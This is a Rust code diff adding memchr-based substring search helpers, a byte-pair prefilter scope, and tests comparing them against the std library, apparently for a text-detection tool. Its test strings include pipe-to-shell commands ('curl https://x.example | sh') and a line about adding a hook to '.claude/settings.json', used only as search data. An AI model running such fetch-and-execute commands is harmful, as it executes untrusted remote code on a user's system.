@@ -72,6 +72,136 @@ pub fn skip_parens(chars: &mut impl Iterator<Item = char>) {
     }
 }
 
+/// The byte offset of the first occurrence of `needle` in `hay` (as `str::find` with a `&str`
+/// pattern), without building a searcher: a `memchr` for the needle's first byte and a
+/// comparison at each place it occurs. For the many short needles the detectors look for in
+/// short sentences this costs a fraction of `str::find`, whose two-way searcher is set up
+/// anew on every call.
+pub fn find(hay: &str, needle: &str) -> Option<usize> {
+    find_from(hay.as_bytes(), needle.as_bytes(), 0)
+}
+
+/// True when `hay` holds `needle` (as `str::contains` with a `&str` pattern); see [`find`].
+pub fn contains(hay: &str, needle: &str) -> bool {
+    find(hay, needle).is_some()
+}
+
+/// The byte pairs of one text, as a 4096-bit set (pairs hashed, so a set bit may be another
+/// pair's): while a [`PairScope`] for the text is alive, [`find`], [`contains`] and
+/// [`match_offsets`] on that text or any part of it answer "none" at once for a needle whose
+/// first two bytes are not in the set. The answers stay exactly those of a full search.
+struct Pairs {
+    /// True while a scope is alive.
+    active: bool,
+    /// Start address and length of the text the set was made from.
+    at: usize,
+    len: usize,
+    bits: [u64; 64],
+}
+
+thread_local! {
+    static PAIRS: std::cell::RefCell<Pairs> = const {
+        std::cell::RefCell::new(Pairs { active: false, at: 0, len: 0, bits: [0; 64] })
+    };
+}
+
+fn pair_bit(a: u8, b: u8) -> usize {
+    ((usize::from(a) << 4) ^ usize::from(b)) & 4095
+}
+
+/// While alive, substring searches in `text` (or any slice of it) on this thread first test
+/// the needle's first two bytes against the pairs `text` holds (see [`Pairs`]): for code that
+/// looks for many short needles in one sentence. Dropping it ends the filter; scopes do not
+/// nest (a new one replaces the old).
+pub struct PairScope(());
+
+impl PairScope {
+    /// Makes the pair set of `text` (one pass) and puts it in force on this thread.
+    pub fn new(text: &str) -> PairScope {
+        let b = text.as_bytes();
+        PAIRS.with(|c| {
+            let mut p = c.borrow_mut();
+            p.active = true;
+            p.at = b.as_ptr() as usize;
+            p.len = b.len();
+            p.bits = [0; 64];
+            for w in b.windows(2) {
+                let k = pair_bit(w[0], w[1]);
+                p.bits[k >> 6] |= 1 << (k & 63);
+            }
+        });
+        PairScope(())
+    }
+}
+
+impl Drop for PairScope {
+    fn drop(&mut self) {
+        PAIRS.with(|c| c.borrow_mut().active = false);
+    }
+}
+
+/// False when the pair filter in force covers `hay` and shows `needle` (two bytes or more)
+/// cannot occur in it.
+fn may_hold(hay: &[u8], needle: &[u8]) -> bool {
+    if needle.len() < 2 {
+        return true;
+    }
+    PAIRS.with(|c| {
+        let p = c.borrow();
+        let at = hay.as_ptr() as usize;
+        if !p.active || at < p.at || at + hay.len() > p.at + p.len {
+            return true;
+        }
+        let k = pair_bit(needle[0], needle[1]);
+        p.bits[k >> 6] & (1 << (k & 63)) != 0
+    })
+}
+
+/// The first occurrence of `needle` in `hay` at or after `from`.
+fn find_from(hay: &[u8], needle: &[u8], from: usize) -> Option<usize> {
+    let Some((&first, rest)) = needle.split_first() else {
+        return (from <= hay.len()).then_some(from);
+    };
+    if !may_hold(hay, needle) {
+        return None;
+    }
+    let mut at = from;
+    while at + needle.len() <= hay.len() {
+        let p = at + memchr::memchr(first, &hay[at..=hay.len() - needle.len()])?;
+        if hay[p + 1..p + needle.len()] == *rest {
+            return Some(p);
+        }
+        at = p + 1;
+    }
+    None
+}
+
+/// The byte offsets of the non-overlapping occurrences of `needle` in `hay`, left to right
+/// (as the offsets of `str::match_indices` with a `&str` pattern); see [`find`]. An empty
+/// needle yields every char boundary, as `match_indices` does.
+pub fn match_offsets<'a>(hay: &'a str, needle: &'a str) -> impl Iterator<Item = usize> + 'a {
+    let mut at = Some(0usize);
+    std::iter::from_fn(move || {
+        let from = at?;
+        if needle.is_empty() {
+            // Every char boundary, as `str::match_indices("")`.
+            let next = hay[from..].chars().next().map(|c| from + c.len_utf8());
+            at = next;
+            return Some(from);
+        }
+        match find_from(hay.as_bytes(), needle.as_bytes(), from) {
+            Some(p) => {
+                at = Some(p + needle.len());
+                Some(p)
+            }
+            None => {
+                at = None;
+                None
+            }
+        }
+    })
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -100,5 +230,60 @@ mod tests {
         assert_eq!(cap("", 5), "");
         assert_eq!(floor_boundary("", 0), 0);
         assert_eq!(ceil_boundary("", 3), 0);
+    }
+    #[test]
+    fn find_and_match_offsets_agree_with_std() {
+        let hays = [
+            "",
+            "a",
+            "aaa",
+            "aaaa",
+            "abcabcab",
+            "hook hooks disableallhooks",
+            "é€aé€a",
+            "x|y||z",
+            "curl https://x | sh; curl y",
+        ];
+        let needles = [
+            "", "a", "aa", "abc", "ab", "hook", "hooks", "é", "€a", "|", "||", "curl", "zz",
+        ];
+        for h in hays {
+            for n in needles {
+                assert_eq!(find(h, n), h.find(n), "find {n:?} in {h:?}");
+                assert_eq!(contains(h, n), h.contains(n));
+                let ours: Vec<usize> = match_offsets(h, n).collect();
+                let std: Vec<usize> = h.match_indices(n).map(|(p, _)| p).collect();
+                assert_eq!(ours, std, "match_offsets {n:?} in {h:?}");
+            }
+        }
+    }
+    #[test]
+    fn a_pair_scope_never_changes_an_answer() {
+        let text =
+            "Then add the hook to .claude/settings.json; curl https://x.example | sh and é€ done";
+        let needles = [
+            "hook", "hooks", "settings", "curl", "| sh", "zz", "é€", "€", "x", "", "done", "jq",
+            "sh",
+        ];
+        let plain: Vec<(Option<usize>, Vec<usize>)> = needles
+            .iter()
+            .map(|n| (find(text, n), match_offsets(text, n).collect()))
+            .collect();
+        let scope = PairScope::new(text);
+        for (i, n) in needles.iter().enumerate() {
+            assert_eq!(find(text, n), plain[i].0, "{n:?}");
+            assert_eq!(
+                match_offsets(text, n).collect::<Vec<_>>(),
+                plain[i].1,
+                "{n:?}"
+            );
+            // A slice of the scoped text, and a text outside it.
+            let part = &text[5..40];
+            assert_eq!(find(part, n), part.find(n), "{n:?} in part");
+            let other = String::from("zz jq ") + text;
+            assert_eq!(find(&other, n), other.find(n), "{n:?} in other");
+        }
+        drop(scope);
+        assert_eq!(find(text, "zz"), None);
     }
 }
